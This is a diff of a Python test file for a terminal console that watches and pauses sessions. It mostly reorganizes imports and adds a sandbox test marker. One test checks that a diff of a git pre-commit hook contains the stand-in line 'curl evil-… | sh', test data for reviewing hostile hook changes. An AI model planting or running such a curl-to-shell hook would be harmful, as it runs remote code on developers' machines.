@@ -11,12 +11,14 @@ import uuid
 
 import psutil
 import pytest
-from daemon_harness import running_daemon, wait_for, workspace
-from tui_harness import Clock, foreign_controls, frame, make_app, screen_text, until
+from support.daemon import running_daemon, wait_for, workspace
+from support.tui import Clock, foreign_controls, frame, make_app, screen_text, until
 
 from console.sessions.cgroups import pid_frozen
 from console.tui.screens.watch import RecordScreen
 from console.tui.widgets.status_line import StatusLine
+
+pytestmark = pytest.mark.needs_bwrap
 
 SIZE = (140, 42)
 LOOP = "i=0; while true; do i=$((i+1)); echo $i > counter-{t}; sleep 0.1; done"
@@ -216,7 +218,7 @@ async def test_keep_paused_and_an_item_already_there_when_the_console_starts(env
 
 async def test_a_paused_pane_says_so_refuses_input_and_the_list_resumes_it(env, clock):
     """Issue 15, finding 12: keep paused is no dead end, and a paused pane is not a live one."""
-    from tui_sessions_harness import open_pane, show_sessions
+    from support.tui_sessions import open_pane, show_sessions
 
     d, ws = env
     t = uuid.uuid4().hex[:8]
@@ -247,8 +249,8 @@ async def test_a_paused_pane_says_so_refuses_input_and_the_list_resumes_it(env, 
             with d.operator() as op:
                 answer = op.call("watch.diff", {"workspace_root": str(ws), "path": ".git/hooks/pre-commit"})
             assert answer["diff"] == "" and f"+curl evil-{t} | sh" in answer["accepted"]["diff"]
-            from console.tui.present import PLAIN
-            from console.tui.widgets.watch_text import event_detail
+            from console.tui.render.present import PLAIN
+            from console.tui.render.watch_text import event_detail
 
             event = {
                 "path": ".git/hooks/pre-commit",
